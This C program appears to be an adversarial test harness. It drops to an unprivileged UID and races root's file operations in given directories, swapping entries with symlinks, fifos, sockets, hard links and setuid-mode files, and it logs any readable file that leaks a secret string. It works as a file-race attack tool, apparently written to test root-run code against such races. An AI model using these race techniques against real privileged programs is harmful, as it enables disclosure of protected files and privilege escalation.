// attacker UID VICTIM SECRET LEAKS DIRECTORY…: as the user UID, exchange what is in directories of that user, as fast as possible.
//
// One process exchanges and makes whatever it can, another waits for what root makes.
// Each DIRECTORY may be missing for some time: it is opened again by its path in each round. In it, names
// that begin with ".trap-" are what root has put there to be exchanged with the others: links to VICTIM,
// a fifo, a socket, hard links to files of root's, a directory of root's. What can be opened and has SECRET
// in it is a line in the file LEAKS. SIGTERM ends it; it writes "ready" and, at the end, how many exchanges succeeded, and how many of those
// were of what root was making.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

enum { MOST = 64, NAME = 256 };
enum { MOST_DIRECTORIES = 16, PAUSE = 50 };  // microseconds: who sleeps is woken at once
static volatile sig_atomic_t ended;
static const char *victim, *secret;
static int leaks;
static unsigned long exchanges;
static unsigned seed;

static void end(int number) {
  (void)number;
  ended = 1;
}

static unsigned any(unsigned below) {
  seed = seed * 1103515245u + 12345u;
  return (seed >> 16) % below;
}

static int is_trap(const char *name) { return !strncmp(name, ".trap-", 6); }
static int is_ours(const char *name) { return !strncmp(name, ".ephemeroot", 11); }

static void look(int directory, const char *name) {
  static char text[4096];
  int file = openat(directory, name, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
  if (file < 0) return;
  ssize_t size = read(file, text, sizeof text);
  if (size > 0 && memmem(text, size, secret, strlen(secret))) dprintf(leaks, "%s\n", name);
  close(file);
}

static void make(int directory, const char *name) {
  char path[NAME + 32];
  switch (any(6)) {
    case 0: mkfifoat(directory, name, 0666); break;
    case 1: symlinkat(victim, directory, name); break;
    case 2: mkdirat(directory, name, 0777); break;
    case 3: close(openat(directory, name, O_CREAT | O_WRONLY | O_CLOEXEC | O_NONBLOCK, 04777)); break;
    case 4:
      snprintf(path, sizeof path, ".trap-hard%u", any(2));
      linkat(directory, path, directory, name, 0);  // fails where the kernel protects hard links
      break;
    case 5: {
      struct sockaddr_un address = {.sun_family = AF_UNIX};
      int made = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
      snprintf(address.sun_path, sizeof address.sun_path, "/proc/self/fd/%d/%.60s", directory, name);
      bind(made, (struct sockaddr *)&address, sizeof address);
      close(made);
    }
  }
}

// What root is building, or has just built: be quick.
static void meddle(int directory, const char *name, const char *trap) {
  if (any(2)) {
    if (!unlinkat(directory, name, 0)) exchanges += !symlinkat(victim, directory, name);
    else if (trap) exchanges += !renameat2(directory, name, directory, trap, RENAME_EXCHANGE);
  } else if (trap) {
    exchanges += !renameat2(directory, name, directory, trap, RENAME_EXCHANGE);
  }
  look(directory, name);
  int inside = openat(directory, name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (inside >= 0) {
    make(inside, "meddled");
    close(inside);
  }
}

static void attack(const char *path) {
  static char names[MOST][NAME], traps[MOST][NAME];
  int count = 0, set = 0, directory = open(path, O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
  if (directory < 0) return;
  DIR *listing = fdopendir(dup(directory));
  struct dirent *entry;
  while (listing && (entry = readdir(listing)) && count < MOST && set < MOST) {
    if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, "..")) continue;
    if (is_trap(entry->d_name)) strcpy(traps[set++], entry->d_name);
    else strcpy(names[count++], entry->d_name);
  }
  if (listing) closedir(listing);
  for (int n = 0; n < count && !ended; n++) {
    const char *trap = set ? traps[any(set)] : NULL;
    if (is_ours(names[n])) {
      meddle(directory, names[n], trap);
      continue;
    }
    look(directory, names[n]);
    switch (any(6)) {
      case 0:
      case 1:
        if (trap) exchanges += !renameat2(directory, names[n], directory, trap, RENAME_EXCHANGE);
        break;
      case 2:
      case 3:
        exchanges += !renameat2(directory, names[n], directory, names[any(count)], RENAME_EXCHANGE);
        break;
      case 4:
        if (!unlinkat(directory, names[n], 0) || any(2)) make(directory, names[n]);
        break;
      case 5: {
        char name[16];
        snprintf(name, sizeof name, "q%u", any(8));
        make(directory, name);
      }
    }
  }
  if (!count) make(directory, "q0");
  close(directory);
}

// Wait for what root makes in the directories, and meddle with it at once.
static void lurk(int count, char **paths) {
  static char events[65536] __attribute__((aligned(8)));
  int directories[MOST_DIRECTORIES], watches[MOST_DIRECTORIES];
  ino_t inodes[MOST_DIRECTORIES] = {0};
  int notes = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
  for (int n = 0; n < count; n++) directories[n] = watches[n] = -1;
  while (!ended) {
    for (int n = 0; n < count; n++) {  // one may be another directory by now
      struct stat status;
      if (stat(paths[n], &status) || status.st_ino == inodes[n]) continue;
      int opened = open(paths[n], O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
      if (opened < 0) continue;
      if (directories[n] >= 0) close(directories[n]);
      if (watches[n] >= 0) inotify_rm_watch(notes, watches[n]);
      char proc[40];
      snprintf(proc, sizeof proc, "/proc/self/fd/%d", opened);
      directories[n] = opened, inodes[n] = status.st_ino;
      watches[n] = inotify_add_watch(notes, proc, IN_CREATE);
    }
    struct pollfd wait = {.fd = notes, .events = POLLIN};
    if (poll(&wait, 1, 1) <= 0) continue;
    ssize_t size = read(notes, events, sizeof events);
    for (char *at = events; size > 0 && at < events + size;) {
      struct inotify_event *event = (void *)at;
      at += sizeof *event + event->len;
      if (!event->len || !is_ours(event->name)) continue;
      for (int n = 0; n < count; n++)
        if (event->wd == watches[n]) meddle(directories[n], event->name, ".trap-link");
    }
  }
}

int main(int count, char **words) {
  if (count < 6 || count > 5 + MOST_DIRECTORIES) return 2;
  uid_t user = atoi(words[1]);
  victim = words[2], secret = words[3];
  seed = getpid();
  leaks = open(words[4], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
  if (setgroups(0, NULL) || setresgid(user, user, user) || setresuid(user, user, user)) return 1;
  prctl(PR_SET_PDEATHSIG, SIGKILL);  // another user does not inherit it
  umask(0);
  signal(SIGTERM, end);
  int ends[2];
  if (pipe2(ends, O_CLOEXEC)) return 1;
  pid_t lurker = fork();
  if (!lurker) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    lurk(count - 5, words + 5);
    return write(ends[1], &exchanges, sizeof exchanges) < 0;
  }
  puts("ready");
  fflush(stdout);
  while (!ended)
    for (int n = 5; n < count && !ended; n++) {
      attack(words[n]);
      usleep(PAUSE);
    }
  unsigned long more = 0;
  kill(lurker, SIGTERM);
  kill(lurker, SIGCONT);
  waitpid(lurker, NULL, 0);
  if (read(ends[0], &more, sizeof more) < 0) more = 0;
  printf("%lu %lu\n", exchanges, more);
  return 0;
}
